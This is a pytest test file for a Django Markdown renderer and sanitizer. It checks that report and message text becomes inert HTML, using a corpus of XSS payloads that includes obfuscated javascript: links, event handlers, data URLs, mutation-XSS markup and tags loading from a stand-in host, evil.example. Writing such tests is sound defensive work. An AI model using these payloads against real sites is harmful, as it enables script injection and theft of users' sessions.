"""Markdown from reports, messages and the program policy renders as inert, sanitized HTML."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from django.template import Context, Template
from django.utils.safestring import SafeString

from reports.markdown import ALLOWED_TAGS, render_markdown, sanitize_html

SAFE_SCHEMES = {"http", "https", "mailto"}
URL_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(document.cookie)">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://tracker.example/pixel.png)",
    '<iframe src="https://evil.example"></iframe>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;inset:0">overlay</div>',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=q></form>',
    '<object data="https://evil.example/x.swf"></object>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<!-- <script>alert(1)</script> -->",
    '[x](https://example.org "title" onclick="alert(1)")',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
]

# The same corpus handed straight to the sanitizer, as if the renderer had let it through.
RAW_HTML_CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://example.org" onclick="alert(1)" target="_blank">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<p style="color:red" onmouseover="alert(1)">x</p>',
    "<style>body{display:none}</style>",
    '<form action="https://e.example"><button formaction="javascript:alert(1)">go</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
]


class _Inspector(HTMLParser):
    """Collect every tag and attribute a browser would build from an HTML fragment."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.attributes = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)

    handle_startendtag = handle_starttag


def _inspect(html):
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def _scheme(url):
    # As a browser reads an href: entities decoded, outer spaces and control characters stripped,
    # tabs and newlines removed anywhere; without a scheme the URL is relative to this page.
    url = unescape(url).strip("".join(map(chr, range(0x21))))
    match = URL_SCHEME.match(re.sub(r"[\t\n\r]", "", url))
    return match[1].lower() if match else None


def _assert_inert(html):
    found = _inspect(html)
    assert set(found.tags) <= ALLOWED_TAGS, found.tags
    for tag, name, value in found.attributes:
        assert (tag, name) in {("a", "href"), ("a", "rel"), ("ol", "start")}, (tag, name)
        if name == "href":
            assert _scheme(value) in SAFE_SCHEMES | {None}, value


@pytest.mark.parametrize("text", XSS_CORPUS)
def test_hostile_markdown_renders_inert(text):
    _assert_inert(render_markdown(text))


@pytest.mark.parametrize("html", RAW_HTML_CORPUS)
def test_the_sanitizer_alone_makes_hostile_html_inert(html):
    _assert_inert(sanitize_html(html))


def test_raw_html_in_markdown_is_shown_as_text():
    assert render_markdown("<script>alert(1)</script>") == (
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"
    )


def test_a_javascript_link_is_not_a_link():
    for text in ("[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))"):
        assert "<a" not in render_markdown(text)


def test_a_data_url_loses_its_href():
    assert render_markdown("[x](data:image/png;base64,iVBORw0KGgo=)") == (
        '<p><a rel="nofollow noopener noreferrer">x</a></p>\n'
    )


def test_images_are_dropped_so_nothing_loads_from_elsewhere():
    assert "<img" not in render_markdown("![pixel](https://tracker.example/pixel.png)")


def test_headings_lists_code_and_emphasis_render():
    html = render_markdown(
        "# Title\n\n## Steps\n\n1. Start the proxy\n2. Call `/admin` *without* a **key**\n\n"
        "- one\n- two\n\n> quoted\n\n```\nx < 1\n```\n\n---\n"
    )

    assert "<h1>Title</h1>" in html
    assert "<h2>Steps</h2>" in html
    assert "<ol>\n<li>Start the proxy</li>" in html
    assert "<code>/admin</code>" in html
    assert "<em>without</em>" in html
    assert "<strong>key</strong>" in html
    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in html
    assert "<blockquote>\n<p>quoted</p>\n</blockquote>" in html
    assert "<pre><code>x &lt; 1\n</code></pre>" in html
    assert "<hr>" in html


def test_links_keep_their_target_and_are_marked_nofollow():
    html = render_markdown("[docs](https://example.org/a?b=1&c=2) and <security@example.org>")

    assert '<a href="https://example.org/a?b=1&amp;c=2" rel="nofollow noopener noreferrer">' in html
    assert '<a href="mailto:security@example.org" rel="nofollow noopener noreferrer">' in html


def test_a_list_keeps_its_starting_number():
    assert '<ol start="3">' in render_markdown("3. third\n4. fourth")


def test_tables_render_without_inline_styles():
    html = render_markdown("| severity | max |\n|---|--:|\n| High | 1,500 |")

    assert "<table>" in html
    assert "<th>severity</th>" in html
    assert "<td>1,500</td>" in html
    assert "style" not in html


def test_html_entities_stay_text():
    assert render_markdown("AT&T &amp; &lt;b&gt;") == "<p>AT&amp;T &amp; &lt;b&gt;</p>\n"


def test_the_result_is_marked_safe_for_templates():
    assert isinstance(render_markdown("*hi*"), SafeString)


def test_the_template_filter_renders_markdown():
    template = Template("{% load markdown %}{{ text|markdown }}")

    html = template.render(Context({"text": "**bold** <script>x</script>"}))

    assert html == "<p><strong>bold</strong> &lt;script&gt;x&lt;/script&gt;</p>\n"


def test_the_template_filter_renders_nothing_for_no_text():
    assert Template("{% load markdown %}{{ text|markdown }}").render(Context({"text": None})) == ""
